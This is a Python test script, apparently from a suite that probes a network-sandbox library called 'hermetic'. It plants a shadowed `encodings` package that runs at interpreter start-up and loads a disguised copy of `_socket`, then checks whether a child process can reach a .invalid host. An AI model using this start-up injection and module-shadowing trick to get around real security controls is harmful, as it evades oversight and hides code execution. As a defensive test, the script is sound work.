# attack: a shadowed `encodings` on PYTHONPATH runs during start-up, puts a directory named lib-dynload holding a copy of _socket first on sys.path, loads the copy from it, and takes the directory away again, so the copy looks like the interpreter's own file
# flags: --no-network --allow-domain localhost
import importlib.machinery
import os
import shutil
import subprocess
import sys
import tempfile

real = importlib.machinery.PathFinder.find_spec("_socket")
if real is None or real.origin in (None, "built-in"):
    print("BLOCKED _socket is built in: no file to copy")
    raise SystemExit
d = tempfile.mkdtemp(dir=os.environ["ATTACK_TMP"])
fake = os.path.join(d, "lib-dynload")
os.mkdir(fake)
copy = os.path.join(fake, os.path.basename(real.origin))
shutil.copy(real.origin, copy)
os.mkdir(os.path.join(d, "encodings"))
stdlib = os.path.dirname(os.__file__)
with open(os.path.join(d, "encodings", "__init__.py"), "w") as f:
    f.write(f"""
import sys, _imp
__path__[:] = [{stdlib + '/encodings'!r}]
sys.path.insert(0, {fake!r})
class _Spec:
    name = "early._socket"
    origin = {copy!r}
try:
    sys._early = _imp.create_dynamic(_Spec)
    _imp.exec_dynamic(sys._early)
except BaseException as e:
    sys._early_err = repr(e)
sys.path.remove({fake!r})
with __import__("_io").open({stdlib + '/encodings/__init__.py'!r}, "rb") as f:
    exec(compile(f.read(), {stdlib + '/encodings/__init__.py'!r}, "exec"))
""")
child = (
    "import sys, hermetic\n"
    "m = getattr(sys, '_early', None)\n"
    "s = m.socket(2, 1)\n"
    "s.settimeout(2)\n"
    "try:\n"
    "    s.connect(('hermetic-attack.invalid', 80))\n"
    "    print('ESCAPED connected')\n"
    "except hermetic.PolicyViolation as e:\n"
    "    print('BLOCKED', e)\n"
    "except OSError as e:\n"
    "    print('ESCAPED the resolver was asked by an unreplaced copy:', e)\n"
)
r = subprocess.run([sys.executable, "-c", child], env=dict(os.environ, PYTHONPATH=d),
                   capture_output=True, text=True)
out = r.stdout + r.stderr
if "ESCAPED" in out:
    print(out)
elif "blocked action" in out or "BLOCKED" in out:
    print("BLOCKED", out.strip().splitlines()[-1])
else:
    print("ESCAPED? unexpected child output:", out)
